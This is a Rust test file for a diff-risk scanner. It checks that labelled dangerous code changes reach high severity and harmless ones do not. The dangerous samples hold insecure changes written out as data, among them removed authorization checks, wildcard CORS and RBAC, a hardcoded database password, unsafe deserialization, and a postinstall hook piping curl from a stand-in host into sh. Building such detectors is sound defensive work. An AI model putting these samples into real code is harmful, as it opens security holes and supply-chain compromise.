@@ -1,0 +1,372 @@
+//! Short changes in the style of unseen ones, across categories and languages:
+//! each dangerous one must reach high or critical, each harmless one must not.
+
+use crate::risk::testkit::diff_of;
+use crate::risk::{Contents, RuleSet, Severity, findings};
+
+#[test]
+fn short_changes_land_on_the_right_side_of_high() {
+    let mut wrong = Vec::new();
+    let cases: &[(&str, &str, &str, &str)] = &[
+        (
+            "D",
+            "infra/prod/aurora.tf",
+            "  engine_version = \"13.12\"\n",
+            "  engine_version = \"16.2\"\n  allow_major_version_upgrade = true\n",
+        ),
+        (
+            "D",
+            "deploy/k8s/api.yaml",
+            "  strategy:\n    rollingUpdate:\n      maxUnavailable: 1\n",
+            "  strategy:\n    rollingUpdate:\n      maxUnavailable: 100%\n",
+        ),
+        (
+            "D",
+            "infra/lambda.tf",
+            "  reserved_concurrent_executions = 50\n",
+            "  reserved_concurrent_executions = 0\n",
+        ),
+        (
+            "D",
+            "db/migrations/0100_grants.sql",
+            "",
+            "GRANT ALL PRIVILEGES ON DATABASE shop TO app;\n",
+        ),
+        (
+            "D",
+            "src/main/java/com/acme/ApiController.java",
+            "@CrossOrigin(origins = \"https://app.acme.io\")\n",
+            "@CrossOrigin(origins = \"*\")\n",
+        ),
+        (
+            "D",
+            "infra/pulumi/db.ts",
+            "  deletionProtection: true,\n",
+            "  deletionProtection: false,\n",
+        ),
+        (
+            "H",
+            "infra/prod/ec2.tf",
+            "  instance_type = \"t3.medium\"\n",
+            "  instance_type = \"t3.large\"\n",
+        ),
+        (
+            "H",
+            "deploy/k8s/hpa.yaml",
+            "  maxReplicas: 10\n",
+            "  maxReplicas: 20\n",
+        ),
+        (
+            "H",
+            "infra/prod/sqs.tf",
+            "",
+            "resource \"aws_sqs_queue\" \"dlq\" {\n  name = \"orders-dlq\"\n}\n",
+        ),
+        (
+            "H",
+            "ansible/users.yml",
+            "- name: add users\n  user:\n    name: ana\n",
+            "- name: add users\n  user:\n    name: ana\n- name: add bob\n  user:\n    name: bob\n",
+        ),
+        (
+            "H",
+            "cloudformation/outputs.yaml",
+            "Outputs:\n  QueueUrl:\n    Value: !Ref Queue\n",
+            "Outputs:\n  QueueUrl:\n    Value: !Ref Queue\n  QueueArn:\n    Value: !GetAtt Queue.Arn\n",
+        ),
+        (
+            "H",
+            "src/server.go",
+            "w.Header().Set(\"Content-Type\", \"text/plain\")\n",
+            "w.Header().Set(\"Content-Type\", \"application/json\")\n",
+        ),
+        (
+            "D",
+            "app/api/views.py",
+            "@app.route('/admin')\n@admin_required\ndef admin():\n    return render()\n",
+            "@app.route('/admin')\ndef admin():\n    return render()\n",
+        ),
+        (
+            "D",
+            "internal/api/handlers.go",
+            "func (h *H) Delete(w http.ResponseWriter, r *http.Request) {\n\tif !h.authz.CanDelete(r.Context(), id) {\n\t\thttp.Error(w, \"forbidden\", http.StatusForbidden)\n\t\treturn\n\t}\n\th.store.Delete(id)\n}\n",
+            "func (h *H) Delete(w http.ResponseWriter, r *http.Request) {\n\th.store.Delete(id)\n}\n",
+        ),
+        (
+            "D",
+            "src/main/resources/application-prod.yml",
+            "spring:\n  datasource:\n    password: ${DB_PASSWORD}\n",
+            "spring:\n  datasource:\n    password: Pr0d-Db-2024!xK9\n",
+        ),
+        (
+            "D",
+            "deploy/prod/values.yaml",
+            "image:\n  tag: 1.4.2\n",
+            "image:\n  tag: latest\n",
+        ),
+        (
+            "D",
+            "src/server.js",
+            "app.use(rateLimit({ windowMs: 60000, max: 100 }));\napp.use(helmet());\n",
+            "app.use(helmet());\n",
+        ),
+        (
+            "D",
+            "lib/payments/charge.rb",
+            "def charge!\n  gateway.charge(amount)\nrescue Gateway::Timeout => e\n  raise ChargeFailed, e.message\nend\n",
+            "def charge!\n  gateway.charge(amount)\nrescue => e\n  nil\nend\n",
+        ),
+        (
+            "D",
+            "db/migrate/20240101_remove_ssn.rb",
+            "",
+            "class RemoveSsn < ActiveRecord::Migration[7.0]\n  def change\n    remove_column :users, :ssn\n  end\nend\n",
+        ),
+        (
+            "D",
+            "prisma/migrations/20240101_x/migration.sql",
+            "",
+            "ALTER TABLE \"User\" DROP COLUMN \"email\";\n",
+        ),
+        (
+            "D",
+            "scripts/cleanup.py",
+            "import os\n",
+            "import os\nos.system('rm -rf ' + target_dir)\n",
+        ),
+        (
+            "D",
+            "src/crypto/tokens.ts",
+            "export const token = () => crypto.randomBytes(32).toString('hex');\n",
+            "export const token = () => Math.random().toString(36).slice(2);\n",
+        ),
+        (
+            "D",
+            "infra/k8s/rbac.yaml",
+            "rules:\n  - apiGroups: [\"\"]\n    resources: [\"pods\"]\n    verbs: [\"get\", \"list\"]\n",
+            "rules:\n  - apiGroups: [\"*\"]\n    resources: [\"*\"]\n    verbs: [\"*\"]\n",
+        ),
+        (
+            "D",
+            "terraform/modules/db/main.tf",
+            "resource \"google_sql_database_instance\" \"main\" {\n  name = \"main\"\n  deletion_protection = true\n}\n",
+            "resource \"google_sql_database_instance\" \"main\" {\n  name = \"main\"\n}\n",
+        ),
+        (
+            "D",
+            "api/settings.py",
+            "ALLOWED_HOSTS = ['api.acme.io']\nCORS_ALLOWED_ORIGINS = ['https://app.acme.io']\n",
+            "ALLOWED_HOSTS = ['*']\nCORS_ALLOW_ALL_ORIGINS = True\n",
+        ),
+        (
+            "D",
+            ".github/workflows/release.yml",
+            "      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
+            "      - run: echo ${{ secrets.NPM_TOKEN }} && npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
+        ),
+        (
+            "D",
+            "services/orders/db.py",
+            "def purge(days):\n    cur.execute('DELETE FROM orders WHERE created_at < now() - %s', (days,))\n",
+            "def purge(days):\n    cur.execute('DELETE FROM orders')\n",
+        ),
+        (
+            "D",
+            "src/main/java/com/acme/Upload.java",
+            "File f = new File(UPLOADS, FilenameUtils.getName(name));\n",
+            "File f = new File(UPLOADS + \"/\" + request.getParameter(\"name\"));\n",
+        ),
+        (
+            "H",
+            "src/components/Header.tsx",
+            "<h1>{title}</h1>\n",
+            "<h1 className=\"text-xl\">{title}</h1>\n",
+        ),
+        (
+            "H",
+            "config/production.yml",
+            "log_level: info\n",
+            "log_level: warn\n",
+        ),
+        (
+            "H",
+            "src/auth/password.ts",
+            "const ROUNDS = 10;\n",
+            "const ROUNDS = 12;\n",
+        ),
+        (
+            "H",
+            "docs/security.md",
+            "",
+            "Never use `verify=False` or `eval()` on user input. `rm -rf $DIR` is dangerous.\n",
+        ),
+        (
+            "H",
+            "migrations/0003_add_index.sql",
+            "",
+            "CREATE INDEX CONCURRENTLY idx_users_email ON users(email);\n",
+        ),
+        (
+            "H",
+            "scripts/build.sh",
+            "#!/bin/sh\nset -e\nnpm run build\n",
+            "#!/bin/sh\nset -eu\nrm -rf dist\nnpm run build\n",
+        ),
+        (
+            "H",
+            "app/models/user.rb",
+            "validates :email, presence: true\n",
+            "validates :email, presence: true, uniqueness: true\n",
+        ),
+        (
+            "D",
+            "src/billing/invoice.go",
+            "if err := tx.Commit(); err != nil {\n\treturn err\n}\n",
+            "tx.Commit()\n",
+        ),
+        (
+            "D",
+            "app/controllers/admin/users_controller.rb",
+            "before_action :require_admin\n",
+            "\n",
+        ),
+        (
+            "D",
+            "config/initializers/cors.rb",
+            "origins 'app.acme.io'\n",
+            "origins '*'\n",
+        ),
+        (
+            "D",
+            "terraform/prod/rds.tf",
+            "  storage_encrypted = true\n",
+            "  storage_encrypted = false\n",
+        ),
+        (
+            "D",
+            "terraform/prod/s3.tf",
+            "resource \"aws_s3_bucket_public_access_block\" \"logs\" {\n  block_public_acls = true\n}\n",
+            "resource \"aws_s3_bucket_public_access_block\" \"logs\" {\n  block_public_acls = false\n}\n",
+        ),
+        (
+            "D",
+            "src/api/upload.py",
+            "data = yaml.safe_load(request.data)\n",
+            "data = yaml.load(request.data, Loader=yaml.Loader)\n",
+        ),
+        (
+            "D",
+            "web/src/pages/profile.tsx",
+            "<div>{bio}</div>\n",
+            "<div dangerouslySetInnerHTML={{ __html: bio }} />\n",
+        ),
+        (
+            "D",
+            "package.json",
+            "{\n  \"scripts\": {\n    \"build\": \"tsc\"\n  }\n}\n",
+            "{\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"postinstall\": \"curl -s https://x.example/i.sh | sh\"\n  }\n}\n",
+        ),
+        (
+            "D",
+            "go.mod",
+            "module x\n\nrequire github.com/sirupsen/logrus v1.9.3\n",
+            "module x\n\nrequire github.com/sirupsen/logrus v1.9.3\n\nreplace github.com/sirupsen/logrus => github.com/sirupsen-fork/logrus v1.9.4\n",
+        ),
+        (
+            "D",
+            "src/payments/webhook.ts",
+            "if (!stripe.webhooks.constructEvent(body, sig, secret)) return res.sendStatus(400);\n",
+            "\n",
+        ),
+        (
+            "D",
+            "services/api/middleware.py",
+            "MIDDLEWARE = [\n    'django.middleware.csrf.CsrfViewMiddleware',\n    'django.contrib.auth.middleware.AuthenticationMiddleware',\n]\n",
+            "MIDDLEWARE = [\n    'django.contrib.auth.middleware.AuthenticationMiddleware',\n]\n",
+        ),
+        (
+            "D",
+            "k8s/prod/networkpolicy.yaml",
+            "kind: NetworkPolicy\nmetadata:\n  name: deny-all\n",
+            "",
+        ),
+        (
+            "H",
+            "src/billing/invoice.go",
+            "return fmt.Errorf(\"commit: %w\", err)\n",
+            "return fmt.Errorf(\"commit invoice %d: %w\", id, err)\n",
+        ),
+        (
+            "H",
+            "app/controllers/pages_controller.rb",
+            "def about; end\n",
+            "def about; end\ndef team; end\n",
+        ),
+        (
+            "H",
+            "src/api/health.py",
+            "",
+            "@app.get('/healthz')\ndef health():\n    return {'ok': True}\n",
+        ),
+        (
+            "H",
+            "src/ui/Modal.tsx",
+            "const [open, setOpen] = useState(false);\n",
+            "const [open, setOpen] = useState(true);\n",
+        ),
+        (
+            "H",
+            "scripts/dev-reset.sh",
+            "",
+            "#!/bin/sh\ndropdb --if-exists shop_dev\ncreatedb shop_dev\n",
+        ),
+        (
+            "H",
+            "config/feature_flags.rb",
+            "",
+            "FLAGS = { new_nav: false }.freeze\n",
+        ),
+        (
+            "H",
+            "src/test/java/com/acme/FooTest.java",
+            "",
+            "@Test\nvoid works() { assertEquals(1, foo()); }\n",
+        ),
+        (
+            "H",
+            "services/search/query.py",
+            "def q(term):\n    return es.search(index='p', q=term)\n",
+            "def q(term, size=20):\n    return es.search(index='p', q=term, size=size)\n",
+        ),
+        (
+            "H",
+            "web/.eslintrc.json",
+            "{ \"rules\": {} }\n",
+            "{ \"rules\": { \"no-console\": \"warn\" } }\n",
+        ),
+        (
+            "H",
+            "src/lib/retry.ts",
+            "",
+            "export async function retry<T>(f: () => Promise<T>, n = 3): Promise<T> {\n  try { return await f(); } catch (e) { if (n <= 0) throw e; return retry(f, n - 1); }\n}\n",
+        ),
+    ];
+    for (label, path, old, new) in cases {
+        let old = if old.is_empty() { None } else { Some(*old) };
+        let f = findings(
+            &diff_of(path, old, Some(new)),
+            &Contents::new(),
+            &RuleSet::builtin(),
+        );
+        let top = f.iter().map(|x| x.severity).max();
+        let alarm = top >= Some(Severity::High);
+        let ok = (*label == "D") == alarm;
+        if !ok {
+            wrong.push(format!(
+                "{label} {path}: {top:?} {:?}",
+                f.iter().map(|x| x.rule.as_str()).collect::<Vec<_>>()
+            ));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
